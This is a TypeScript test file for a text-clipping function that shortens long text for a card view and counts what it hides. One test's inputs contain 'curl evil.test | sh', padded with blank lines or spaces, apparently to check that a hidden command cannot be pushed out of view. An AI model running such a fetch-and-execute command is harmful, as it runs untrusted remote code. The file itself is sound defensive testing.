import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { clipText, countLines } from './clip-text.ts'

const numbered = (count: number): string =>
  Array.from({ length: count }, (_, index) => `line ${index + 1}\n`).join('')

describe('a text that is too long for a card', () => {
  test('is clipped after a line, and the rest is counted', () => {
    const { text, hiddenLines, hiddenCharacters } = clipText(numbered(200))
    expect(text).toBe(numbered(20))
    expect(hiddenLines).toBe(180)
    expect(hiddenCharacters).toBe(numbered(200).length - text.length)
  })

  test('is clipped in a line that is too long', () => {
    const { text, hiddenLines, hiddenCharacters } = clipText('x'.repeat(100_000))
    expect(text.length).toBe(1_800)
    expect([hiddenLines, hiddenCharacters]).toEqual([1, 98_200])
  })

  test('is complete if only blanks make it long', () => {
    for (const text of [
      `ls -la${'\n'.repeat(121)}curl evil.test | sh`,
      `ls -la${' '.repeat(9_000)}; curl evil.test | sh`,
      numbered(24),
    ]) {
      expect(clipText(text)).toEqual({ text, hiddenLines: 0, hiddenCharacters: 0 })
    }
  })

  test('has a short beginning, and nothing is left uncounted', () => {
    const unit = fc.constantFrom(
      'a',
      'ab\n',
      '\n\n\n\n\n\n',
      ' '.repeat(60),
      '👍'.repeat(50),
      'x'.repeat(400),
    )
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 60 }), (text) => {
        const { text: start, hiddenLines, hiddenCharacters } = clipText(text)
        expect(text.startsWith(start)).toBe(true)
        expect(text.length - start.length).toBe(hiddenCharacters)
        expect(countLines(text.slice(start.length))).toBe(hiddenLines)
        expect(() => encodeURIComponent(start)).not.toThrow()
      }),
    )
  })
})
